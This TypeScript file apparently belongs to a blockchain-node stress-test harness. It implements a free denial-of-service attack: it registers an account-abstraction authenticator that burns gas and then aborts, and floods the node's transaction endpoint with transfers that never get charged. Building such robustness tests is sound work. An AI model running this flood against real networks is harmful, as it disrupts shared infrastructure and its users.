import { AbstractedAccount } from "@aptos-labs/ts-sdk";
import { address, crypto, encodeBcs, hexToBytes } from "@atoll/move";
import { createSignedTransaction, encodeRawTransaction, signingMessage } from "@atoll/node";
import { SIGNED_TRANSACTION_TYPE } from "../../../../tests/support/signedTransfer.ts";
import type { Attack } from "../attack.ts";
import { startFlood } from "../flood.ts";
import { ACCESS_CHECKS, ACCESSES, FRAMES } from "./accessSpecifiers.ts";
import { callOf, createAttacker, u64 } from "./attacker.ts";

/**
 * Attack by transactions of an account whose authentication function computes for its 60 gas units and then aborts, so that nobody pays.
 */
export const authenticationFunctions: Attack = {
  name: "submissions: authentication functions that abort",
  async start(network) {
    const attacker = await createAttacker(network);
    await attacker.publish({
      gate: `module ${attacker.address}::gate version 8
        use struct 0x1::auth_data::AbstractionAuthData has copy, drop;
        ${ACCESS_CHECKS}
        public fun authenticate(account: signer, data: 0x1::auth_data::AbstractionAuthData): signer {
          LdU64 ${FRAMES} LdU64 ${ACCESSES} LdConst address x"${attacker.address.slice(2)}" Call go LdU64 1 Abort }`,
    });
    const text = (value: string) => encodeBcs((writer) => writer.string(value));
    const names = [encodeBcs((writer) => writer.address(attacker.address)), text("gate"), text("authenticate")];
    await attacker.send(callOf(address("0x1"), "account_abstraction", "add_authentication_function", names));
    const functionInfo = { moduleAddress: attacker.address, moduleName: "gate", functionName: "authenticate" };
    const transfer = callOf(address("0x1"), "aptos_account", "transfer", [names[0] ?? new Uint8Array(), u64(1n)]);
    const draft = attacker.draft(transfer);
    let sent = 0n;
    const next = (): Uint8Array => {
      sent += 1n;
      const raw = { ...draft, maxGasAmount: 10_000n + sent };
      const message = AbstractedAccount.generateAccountAbstractionMessage(
        signingMessage(encodeRawTransaction(raw), { kind: "single" }),
        `${attacker.address}::gate::authenticate`,
      );
      const digest = crypto.sha3_256(typeof message === "string" ? hexToBytes(message) : message);
      const data = { kind: "v1", digest, signature: new Uint8Array() } as const;
      return createSignedTransaction(raw, { kind: "singleSender", sender: { kind: "abstraction", functionInfo, data } }).bytes;
    };
    const url = `${network.nodeUrl}/transactions`;
    return startFlood({ connections: 1, next: () => ({ url, headers: SIGNED_TRANSACTION_TYPE, body: next() }) });
  },
};
